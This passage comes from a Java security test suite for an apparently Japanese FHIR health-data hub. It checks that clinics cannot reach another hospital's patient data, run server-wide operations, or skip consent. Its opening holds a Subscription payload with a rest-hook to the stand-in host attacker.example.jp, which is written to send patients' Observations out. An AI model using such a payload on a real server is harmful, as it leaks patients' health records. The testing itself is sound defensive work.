                         "criteria":"Observation?patient=%s","channel":{"type":"rest-hook",
                         "endpoint":"https://attacker.example.jp/hook","payload":"application/fhir+json"}}"""
                        .formatted(patientId)),
                Map.entry("SearchParameter", """
                        {"resourceType":"SearchParameter","url":"https://attacker.example.jp/SearchParameter/%s",
                         "name":"%s","status":"draft","description":"x","code":"%s","base":["Device"],"type":"string",
                         "expression":"Device.note.text"}""".formatted(code, code, code)));
    }

    // ---- 9 ----

    @Test
    void serverWideOperationsAreRefused() {
        AttackFindings findings = new AttackFindings("9 operations open to every user");
        String reindexOnlyDevices = """
                {"resourceType":"Parameters","parameter":[{"name":"type","valueCode":"Device"}]}""";
        String replaceNothing = """
                {"resourceType":"Parameters","parameter":[
                 {"name":"source-reference-id","valueString":"Patient/%s"},
                 {"name":"target-reference-id","valueString":"Patient/%s"},
                 {"name":"resource-limit","valueInteger":1}]}""".formatted(LARGE_ID, clinicPatientId);
        for (RawHubHttp attacker : attackers) {
            String who = attacker.name() + " ";
            findings.refused(who + "GET /fhir/$get-resource-counts", attacker.get("/fhir/$get-resource-counts"));
            findings.refused(who + "POST /fhir/$mark-all-resources-for-reindexing",
                    attacker.post("/fhir/$mark-all-resources-for-reindexing", reindexOnlyDevices));
            findings.refused(who + "POST /fhir/$perform-reindexing-pass",
                    attacker.post("/fhir/$perform-reindexing-pass", "{\"resourceType\":\"Parameters\"}"));
            findings.refused(who + "GET /fhir/$meta", attacker.get("/fhir/$meta"));
            findings.refused(who + "GET /fhir/_history", attacker.get("/fhir/_history?_count=5"));
            findings.refused(who + "GET /fhir/$export", attacker.send("GET", "/fhir/$export", null, null,
                    "Prefer", "respond-async"));
            findings.refused(who + "GET /fhir/Observation/_history", attacker.get("/fhir/Observation/_history?_count=5"));
            findings.refused(who + "POST /fhir/$replace-references",
                    attacker.post("/fhir/$replace-references", replaceNothing));
        }
        findings.succeeded("the capability statement stays public", clinicDoctor.get("/fhir/metadata"));
        for (RawHubHttp attacker : attackers) {
            findings.succeeded(attacker.name() + " searches its own facility's data", attacker.get(
                    "/fhir/Observation?_tag=" + HubSystems.SOURCE_FACILITY + "|" + clinicId + "&_count=5"));
        }
        findings.assertNone();
    }

    // ---- positive controls ----

    @Test
    void positiveControlsOwnDataAndAConsentStillWork() {
        AttackFindings findings = new AttackFindings("positive controls");
        String hospitalOwn = hospitalObservation("hospital's own", "5.0");
        findings.succeeded("hospital reads its own Observation", hospitalDoctor.get("/fhir/Observation/" + hospitalOwn));
        findings.succeeded("hospital updates its own Observation", hospitalDoctor.put("/fhir/Observation/" + hospitalOwn,
                json(observation(hospitalOwn, "Patient/" + hospitalPatientId, "5.1"))));
        hospitalStillHas(findings, hospitalOwn, "2", "5.1");
        ownWritesWork(findings, clinicDoctor);

        String hidden = hospitalObservations.get(0);
        findings.check(clinicDoctor.get("/fhir/Observation/" + hidden).status() == 404,
                "without consent the clinic must not read the hospital's Observation");
        String consent = recordConsent();
        try {
            for (RawHubHttp attacker : attackers) {
                Exchange read = attacker.get("/fhir/Observation/" + hidden);
                findings.succeeded(attacker.name() + " reads the hospital's Observation under consent", read);
                Exchange search = attacker.get("/fhir/Observation?patient=" + eventNumber + "&_count=200");
                findings.check(search.success() && ids(search, "Observation").containsAll(hospitalObservations),
                        attacker.name() + " must find the hospital's Observations by event number under consent, got "
                                + search.brief());
            }
        } finally {
            ok(clinicDoctor.postApi("/api/consents/" + consent + "/withdraw",
                    "{\"reason\":\"patient asked to stop sharing\"}"));
        }
        findings.check(clinicDoctor.get("/fhir/Observation/" + hidden).status() == 404,
                "after the withdrawal the clinic must not read the hospital's Observation");
        findings.assertNone();
    }

    // ---- shared checks ----

    /**
     * One vector for a (hidden, absent) pair: {@code request} made with each ID, the answers compared with the
     * IDs as one placeholder; a request about the hidden one must not succeed either when it is a write.
     */
    private void compare(AttackFindings findings, RawHubHttp attacker, String vector, String hidden, String absent,
                         Function<String, Exchange> request) {
        compare(findings, attacker, vector, hidden, absent, request, "{ID}", "{ID}");
    }

    /** As above; {@code hiddenOwn} and {@code absentOwn} stand for the same thing in both answers too. */
    private void compare(AttackFindings findings, RawHubHttp attacker, String vector, String hidden, String absent,
                         Function<String, Exchange> request, String hiddenOwn, String absentOwn) {
        Exchange hiddenAnswer = request.apply(hidden);
        Exchange absentAnswer = request.apply(absent);
        String name = attacker.name() + " " + vector;
        findings.same(name, side("hidden " + hidden, hiddenAnswer, hidden, "{ID}", hiddenOwn, "{OWN}"),
                side("absent " + absent, absentAnswer, absent, "{ID}", absentOwn, "{OWN}"));
        String method = hiddenAnswer.request().substring(0, hiddenAnswer.request().indexOf(' '));
        boolean byId = hiddenAnswer.request().contains("/" + hidden);
        if (byId && List.of("PUT", "PATCH", "DELETE").contains(method) && hiddenAnswer.success()) {
            findings.check(false, name + ": a write about the hospital's data was accepted: " + hiddenAnswer.brief());
        }
    }

    /** The hospital still reads its Observation, with the version (when given) and value it had. */
    private void hospitalStillHas(AttackFindings findings, String id, String version, String value) {
        Exchange read = hospitalDoctor.get("/fhir/Observation/" + id);
        if (read.status() != 200) {
            findings.check(false, "the hospital must still read its Observation/" + id + ", got " + read.brief());
            return;
        }
        Observation observation = FHIR.newJsonParser().parseResource(Observation.class, read.body());
        String actualVersion = observation.getMeta().getVersionId();
        BigDecimal actual = observation.getValueQuantity().getValue();
        findings.check(version == null || version.equals(actualVersion), "the hospital's Observation/" + id
                + " must still be version " + version + ", is " + actualVersion);
        findings.check(actual != null && actual.compareTo(new BigDecimal(value)) == 0, "the hospital's Observation/"
                + id + " must still have the value " + value + ", has " + actual);
        findings.check(("Patient/" + hospitalPatientId).equals(observation.getSubject().getReference()),
                "the hospital's Observation/" + id + " must still be about its patient, is about "
                        + observation.getSubject().getReference());
    }

    /** Own-vs-foreign: the facility creates, updates, patches and deletes its own Observation. */
    private void ownWritesWork(AttackFindings findings, RawHubHttp writer) {
        String who = writer.name() + " ";
        Exchange created = writer.post("/fhir/Observation", json(observation(null, "Patient/" + clinicPatientId, "6.0")));
        findings.succeeded(who + "creates an Observation about its own patient", created);
        if (!created.success()) {
            return;
        }
        String id = createdId(created);
        findings.succeeded(who + "PUT of its own Observation", writer.put("/fhir/Observation/" + id,
                json(observation(id, "Patient/" + clinicPatientId, "6.1"))));
        findings.succeeded(who + "PATCH of its own Observation", writer.patch("/fhir/Observation/" + id,
                "[{\"op\":\"replace\",\"path\":\"/valueQuantity/value\",\"value\":6.2}]"));
        Exchange read = writer.get("/fhir/Observation/" + id);
        findings.check(read.status() == 200 && read.body().contains("6.2"), who + "reads its patched Observation, got "
                + read.brief());
        findings.succeeded(who + "DELETE of its own Observation", writer.delete("/fhir/Observation/" + id));
        findings.check(writer.get("/fhir/Observation/" + id).status() == 410, who + "sees its own deletion as 410");
    }

    private void nothingStoredAboutTheHospitalsPatient(AttackFindings findings, String marker) {
        List<String> stored = storedWithMarker(marker).stream()
                .filter(o -> o.getSubject().getReference() != null
                        && o.getSubject().getReference().endsWith("Patient/" + hospitalPatientId))
                .map(o -> o.getIdElement().getIdPart()).toList();
        findings.check(stored.isEmpty(), "the clinic's writes were stored against the hospital's patient: Observation "
                + stored);
    }

    /** No entry from another facility (gated or not, the search named no patient of the clinic's). */
    private void noHospitalData(AttackFindings findings, String vector, Exchange answer) {
        if (!answer.success() || !answer.body().contains("\"Bundle\"")) {
            return;
        }
        List<String> foreign = new ArrayList<>();
        for (Bundle.BundleEntryComponent entry : bundle(answer).getEntry()) {
            Resource resource = entry.getResource();
            if (resource != null && List.of("Observation", "MedicationRequest", "Patient").contains(resource.fhirType())
                    && !sources(resource).equals(List.of(clinicId))) {
                foreign.add(resource.fhirType() + "/" + resource.getIdElement().getIdPart() + " from " + sources(resource));
            }
        }
        findings.check(foreign.isEmpty(), vector + ": shows other facilities' data " + foreign.subList(0,
                Math.min(5, foreign.size())) + (foreign.size() > 5 ? " and " + (foreign.size() - 5) + " more" : ""));
        findings.check(!answer.body().contains(DemoDataLoader.demoPatient(0).localId()), vector
                + ": shows the hospital's local patient ID");
    }

    private void refusedOrEmpty(AttackFindings findings, String vector, Exchange answer) {
        boolean refused = answer.status() >= 400 && answer.status() < 500;
        boolean empty = answer.status() == 200 && bundle(answer).getEntry().stream()
                .noneMatch(e -> e.getResource() != null && !"OperationOutcome".equals(e.getResource().fhirType()));
        findings.check(refused || empty, vector + ": a listing without a patient must be refused or empty, got "
                + answer.brief());
    }

    // ---- absent IDs ----

    /** IDs of {@code type} that never existed: one of the same shape as {@code existing}, a large number, a random one. */
    private List<String> absentIds(String type, String existing) {
        return List.of(sameShapeAbsent(existing), LARGE_ID, "rh" + random(10));
    }

    /**
     * A number of the same length as {@code existing} that no resource of any type has had: the highest such
     * number (the demo data fills the IDs below the current ones without gaps), found when the vector is asked.
     */
    private String sameShapeAbsent(String existing) {
        if (!existing.matches("\\d+")) {
            return existing.substring(0, existing.length() - Math.min(4, existing.length())) + random(4);
        }
        JdbcClient jdbc = context.getBean(JdbcClient.class);
        long lowest = (long) Math.pow(10, existing.length() - 1);
        for (long candidate = lowest * 10 - 1; candidate >= lowest; candidate--) {
            long used = jdbc.sql("SELECT count(*) FROM hfj_resource WHERE fhir_id = ? OR res_id = ?")
                    .param(String.valueOf(candidate)).param(candidate).query(Long.class).single();
            if (used == 0) {
                return String.valueOf(candidate);
            }
        }
        throw new IllegalStateException("no unused ID of the shape of " + existing);
    }

    // ---- building and reading resources ----

    private String hospitalObservation(String what, String value) {
        return hospitalObservation(what, value, what.replace(' ', '-') + "-" + random(8));
    }

    /** The hospital's own Observation about its patient, created by its doctor: the victim of a vector. */
    private String hospitalObservation(String what, String value, String identifier) {
        Observation observation = observation(null, "Patient/" + hospitalPatientId, value);
        observation.addIdentifier().setSystem(VICTIM_SYSTEM).setValue(identifier);
        observation.getCode().setText("HbA1c (" + what + ")");
        return createdId(ok(hospitalDoctor.post("/fhir/Observation", json(observation))));
    }

    private static Observation observation(String id, String subject, String value) {
        Observation observation = new Observation();
        if (id != null) {
            observation.setId(id);
        }
        observation.setStatus(Observation.ObservationStatus.FINAL);
        observation.getCode().addCoding().setSystem(JpCoreSystems.JLAC10).setCode(HBA1C).setDisplay("HbA1c");
        observation.setSubject(new Reference(subject));
        observation.setValue(new Quantity().setValue(new BigDecimal(value)).setUnit("%")
                .setSystem(JpCoreSystems.UCUM).setCode("%"));
        return observation;
    }

    private static Patient patient(String system, String localId, String birthDate) {
        Patient patient = new Patient();
        patient.addIdentifier().setSystem(system).setValue(localId);
        patient.addName().setFamily("試験").addGiven("患者");
        patient.setBirthDateElement(new org.hl7.fhir.r4.model.DateType(birthDate));
        return patient;
    }

    /** Enrols the facility's local patient: its event number. */
    private static String enrol(RawHubHttp clerk, String localId) {
        return field(ok(clerk.postApi("/api/patients/enrolments", "{\"localPatientId\":\"" + localId + "\"}")),
                "eventNumber");
    }

    /** A top-level field of a JSON answer of the REST API. */
    private static String field(Exchange answer, String name) {
        try {
            return JSON.readTree(answer.body()).path(name).asText();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static Observation mark(Observation observation, String marker) {
        observation.addIdentifier().setSystem(ATTACK_SYSTEM).setValue(marker);
        return observation;
    }

    private List<Observation> storedWithMarker(String marker) {
        var found = context.getBean(DaoRegistry.class).getResourceDao("Observation").search(
                SearchParameterMap.newSynchronous("identifier", new TokenParam(ATTACK_SYSTEM, marker)),
                new SystemRequestDetails());
        return found.getAllResources().stream().map(Observation.class::cast).toList();
    }

    private <T extends IBaseResource> T readAsHub(Class<T> type, String id) {
        return type.cast(context.getBean(DaoRegistry.class).getResourceDao(type.getSimpleName())
                .read(new IdType(type.getSimpleName(), id), new SystemRequestDetails()));
    }

    private static String identifierValue(Observation observation) {
        return observation.getIdentifier().stream().map(Identifier::getValue).findFirst().orElseThrow();
    }

    private static int localIdentifierIndex(Patient patient) {
        for (int i = 0; i < patient.getIdentifier().size(); i++) {
            if (HOSPITAL_SYSTEM.equals(patient.getIdentifier().get(i).getSystem())) {
                return i;
            }
        }
        throw new IllegalStateException("the hospital's patient has no local identifier");
    }

    private static List<String> sources(Resource resource) {
        return resource.getMeta().getTag().stream().filter(t -> HubSystems.SOURCE_FACILITY.equals(t.getSystem()))
                .map(t -> t.getCode()).toList();
    }

    private static String metaParameters(String sourceFacility) {
        return """
                {"resourceType":"Parameters","parameter":[{"name":"meta","valueMeta":{"tag":[
                 {"system":"%s","code":"%s"}]}}]}""".formatted(HubSystems.SOURCE_FACILITY, sourceFacility);
    }

    private static String testOp(String path, String jsonValue) {
        return "[{\"op\":\"test\",\"path\":\"" + path + "\",\"value\":" + jsonValue + "}]";
    }

    private static String quoted(String value) {
        return "\"" + value + "\"";
    }

    private static String batch(String... urls) {
        StringBuilder entries = new StringBuilder();
        for (String url : urls) {
            entries.append(entries.isEmpty() ? "" : ",").append("{\"request\":{\"method\":\"GET\",\"url\":\"")
                    .append(url).append("\"}}");
        }
        return "{\"resourceType\":\"Bundle\",\"type\":\"batch\",\"entry\":[" + entries + "]}";
    }

    /** A transaction of one entry; the fullUrl is fixed so that two such bundles differ only where meant. */
    private static String transaction(String method, String url, String ifNoneExist, Resource resource) {
        Bundle bundle = new Bundle().setType(Bundle.BundleType.TRANSACTION);
        Bundle.BundleEntryComponent entry = bundle.addEntry();
        if (resource != null) {
            entry.setFullUrl("urn:uuid:6f0e4a52-4a8e-4b41-9d1e-5b1b3c0a9f11").setResource(resource);
        }
        entry.getRequest().setMethod(Bundle.HTTPVerb.fromCode(method)).setUrl(url).setIfNoneExist(ifNoneExist);
        return json(bundle);
    }

    private String recordConsent() {
        String body = """
                {"eventNumber":"%s","category":"CLINICAL","grantees":{"scope":"LISTED","facilityIds":["%s"]},
                 "sources":{"scope":"LISTED","facilityIds":["%s"]},"validFrom":"%s","obtainedVia":"WRITTEN_FORM"}"""
                .formatted(eventNumber, clinicId, hospitalId, Instant.now().minus(1, ChronoUnit.DAYS));
        Exchange recorded = clinicDoctor.postApi("/api/consents", body);
        assertThat(recorded.status()).as(recorded.body()).isEqualTo(201);
        return field(recorded, "id");
    }

    private static String nextPage(Exchange answer) {
        if (answer.status() != 200) {
            return null;
        }
        Bundle.BundleLinkComponent next = bundle(answer).getLink(Bundle.LINK_NEXT);
        return next == null || !next.hasUrl() ? null : next.getUrl().substring(next.getUrl().indexOf("/fhir"));
    }

    private static String createdId(Exchange created) {
        Matcher location = LOCATION_ID.matcher(created.header("Location").orElse(""));
        assertThat(location.find()).as("a created resource's Location: " + created.brief()).isTrue();
        return location.group(2);
    }

    private static Bundle bundle(Exchange answer) {
        return FHIR.newJsonParser().parseResource(Bundle.class, answer.body());
    }

    private static List<String> ids(Exchange answer, String type) {
        return bundle(answer).getEntry().stream()
                .filter(e -> e.getResource() != null && type.equals(e.getResource().fhirType()))
                .map(e -> e.getResource().getIdElement().getIdPart()).toList();
    }

    private static Exchange ok(Exchange answer) {
        assertThat(answer.status()).as(answer.request() + " " + answer.brief()).isIn(200, 201);
        return answer;
    }

    private static String json(IBaseResource resource) {
        return FHIR.newJsonParser().encodeResourceToString(resource);
    }

    private static String random(int length) {
        return UUID.randomUUID().toString().replace("-", "").substring(0, length);
    }

    private RawHubHttp person(String name, String facilityId, Profession profession) {
        return RawHubHttp.forPerson(name, port, HubIntegrationTest.HOME,
                TestPeople.loggedIn(context, facilityId, profession, false));
    }

    private RawHubHttp device(String name, String file) {
        return RawHubHttp.forDevice(name, port, HubIntegrationTest.HOME, HubIntegrationTest.HOME.resolve("demo/" + file
                + ".key"), HubIntegrationTest.HOME.resolve("demo/" + file + ".crt"));
    }
}
